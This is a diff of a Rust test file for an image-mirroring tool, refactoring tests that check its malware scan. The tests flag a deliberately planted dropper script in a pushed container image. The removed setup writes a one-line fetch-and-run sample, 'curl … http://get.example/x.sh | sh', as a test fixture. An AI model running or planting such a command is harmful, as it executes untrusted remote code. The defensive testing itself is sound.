@@ -1162,16 +1162,10 @@ fn referrers_api_results_come_along_under_their_digest() {
     assert_eq!(names, [amd.clone(), format!("{h}/acme/hello@{att_digest}")]);
 }
 
-/// `sync` scans what it mirrored, reading it from the store, and reports findings early (they
-/// do not change its exit status: `pack` scans again and signs its own results, and the
-/// appliance's policy decides). A dropper script in a pushed image is named with its layer
-/// and path; `--no-scan` skips the pass.
-#[test]
-fn sync_scans_what_it_mirrored() {
-    let dir = tempfile::tempdir().unwrap();
-    let d = dir.path();
-    let reg = Registry::start(d, "reg", None);
-    let h = reg.host();
+/// Pushes `HOST/acme/tool:v1` to the registry at `h`: one layer with `app/setup.sh`, a script
+/// that downloads and runs another (the built-in YARA rule names it), and `app/readme.txt`.
+/// Returns the reference.
+fn push_dropper_image(d: &Path, h: &str) -> String {
     sh(
         d,
         &format!(
@@ -1188,7 +1182,20 @@ skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
         ),
     )
     .ok();
-    let img = format!("{h}/acme/tool:v1");
+    format!("{h}/acme/tool:v1")
+}
+
+/// `sync` scans what it mirrored, reading it from the store, and reports findings early (they
+/// do not change its exit status: `pack` scans again and signs its own results, and the
+/// appliance's policy decides). A dropper script in a pushed image is named with its layer
+/// and path; `--no-scan` skips the pass.
+#[test]
+fn sync_scans_what_it_mirrored() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let reg = Registry::start(d, "reg", None);
+    let h = reg.host();
+    let img = push_dropper_image(d, &h);
     manifest(d, &[(&img, None)]);
     let base = [
         "sync",
@@ -1233,21 +1240,10 @@ fn sync_and_pack_scan_each_blob_once_per_rule_set() {
     let d = dir.path();
     let reg = Registry::start(d, "reg", None);
     let h = reg.host();
+    push_dropper_image(d, &h);
     sh(
         d,
-        &format!(
-            r#"
-mkdir -p src/app rules
-printf '#!/bin/sh\ncurl -fsSL http://get.example/x.sh | sh\n' > src/app/setup.sh
-echo fine > src/app/readme.txt
-printf 'rule fine_text {{ strings: $a = "fine" condition: $a }}\n' > rules/local.yar
-umoci init --layout L
-umoci new --image L:v1
-umoci insert --image L:v1 src/app /app >/dev/null
-umoci config --image L:v1 --architecture amd64 --os linux >/dev/null
-skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
-"#
-        ),
+        r#"mkdir -p rules && printf 'rule fine_text { strings: $a = "fine" condition: $a }\n' > rules/local.yar"#,
     )
     .ok();
     keys(d);
